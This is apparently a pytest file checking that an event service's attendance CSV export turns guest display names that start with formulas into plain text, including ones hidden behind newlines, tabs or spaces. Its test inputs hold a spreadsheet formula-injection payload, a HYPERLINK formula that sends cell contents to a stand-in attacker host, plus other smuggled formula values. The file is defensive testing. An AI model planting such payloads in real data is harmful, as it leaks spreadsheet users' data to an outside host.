"""The attendance CSV opened in a spreadsheet: a guest who typed a formula as their display name,
hidden behind a newline, a tab or spaces, still shows as the text they typed."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from support.deliveries import JITSI_SECRET, headers, occupant, seat
from support.service import Api, ManualClock, small_program

from orchestrator import appkeys
from orchestrator.attendance.export import cell

SLUG = "meet-the-buyers"
M1_START = datetime(2021, 4, 8, 8, 30, tzinfo=UTC)
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


@pytest.mark.parametrize(
    "typed",
    [FORMULA, "\n" + FORMULA, "\t" + FORMULA, "   " + FORMULA, "\r\n+1+1", " @SUM(A1:A9)", "\n-1"],
)
async def test_a_guest_naming_themselves_with_a_formula_shows_as_text_in_the_csv(
    make_api: Callable[..., Any], clock: ManualClock, db: Any, typed: str
) -> None:
    api: Api = await make_api(jitsi_webhook_secret=JITSI_SECRET)
    await api.import_ok(small_program())
    clock.set(M1_START - timedelta(minutes=20))
    await api.client.app[appkeys.LIFECYCLE].reconcile()
    room, _, _ = await seat(db, "ana", "m1")
    clock.set(M1_START + timedelta(minutes=1))
    joined = occupant("joined", room, None, typed, clock.now(), connection="guest@x/y")
    assert (await api.client.post("/webhooks/jitsi", headers=headers(), data=joined)).ok

    response = await api.client.get(
        f"/api/v1/events/{SLUG}/attendance?format=csv", headers=api.headers(SLUG)
    )
    assert response.status == 200
    rows = list(csv.DictReader(io.StringIO((await response.read()).decode("utf-8-sig"))))
    (guest,) = [row for row in rows if row["person"].lstrip("'").strip() == typed.strip()]
    assert guest["person"] == "'" + typed


def test_plain_text_and_numbers_stay_as_they_are() -> None:
    assert cell("Ana Lopez") == "Ana Lopez"
    assert cell(" Ana") == " Ana"
    assert cell(-3) == "-3"  # a number the service wrote, not text someone typed
    assert cell("") == ""
    assert cell(None) == ""
